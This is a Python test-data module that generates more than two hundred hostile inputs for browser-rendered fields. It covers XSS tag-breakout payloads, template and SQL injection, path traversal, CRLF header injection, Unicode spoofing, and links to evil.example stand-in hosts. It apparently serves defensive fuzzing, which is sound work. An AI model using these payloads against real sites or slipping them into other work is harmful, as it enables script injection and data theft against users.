"""What somebody would write into a title, a name or an address to mislead or attack who reads it in a browser."""

import itertools

SPECIAL = (
    "{{7*7}}{% raw %}",
    "${7*7}",
    "<%= 7*7 %>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202eevil\u2066",
    "\u200bhid\u200bden",
    "-->",
    "]]>",
    "\x00\x07\x1b[2J",
    "' OR 1=1 --",
    "../../etc/passwd",
    "%0d%0aSet-Cookie: x=1",
    "\r\nSet-Cookie: x=1",
    "//evil.example/x",
    "\\\\evil\\x",
    '=HYPERLINK("http://evil.example")',
    "data:text/html,<script>alert(1)</script>",
    "\ufeff",
    "\U000e0041tag",
    "NaN",
    "W" * 3_000,
    "诺" * 2_000,
    "a\u0300" * 500,
)
_BREAKS = (
    "",
    "'>",
    '">',
    "</title>",
    "</textarea>",
    "</script>",
    "</bdi></p>",
    "-->",
    "\" x='",
    "</svg>",
)
"""What ends the place that a text stands in."""
_ELEMENTS = (
    "<script>{alert}</script>",
    "<script src={url}></script>",
    "<img src={url} onerror={alert}>",
    "<svg onload={alert}>",
    "<svg><image href={url}></svg>",
    "<iframe src={url}></iframe>",
    "<iframe srcdoc='<script>{alert}</script>'>",
    "<link rel=stylesheet href={url}>",
    "<style>@import '{url}'</style>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href={url}>",
    "<form action={url}><button autofocus onfocus={alert}>",
    "<a href={url} ping={url} autofocus>x</a>",
    "<video src={url} onerror={alert}>",
    "<body onload={alert}>",
    "<details open ontoggle={alert}>",
    "<object data={url}>",
    "<div data-hx-get={url} data-hx-trigger=load>",
    '<p style="background:url({url});position:fixed;inset:0;font-size:900px">',
)


def hostile_words(url: str) -> list[str]:
    """More than two hundred texts; those that ask for an address ask for `url`."""
    built = (
        before + element.format(alert="alert(1)", url=f"{url}/{number}")
        for number, (before, element) in enumerate(itertools.product(_BREAKS, _ELEMENTS))
    )
    return [*SPECIAL, *built]
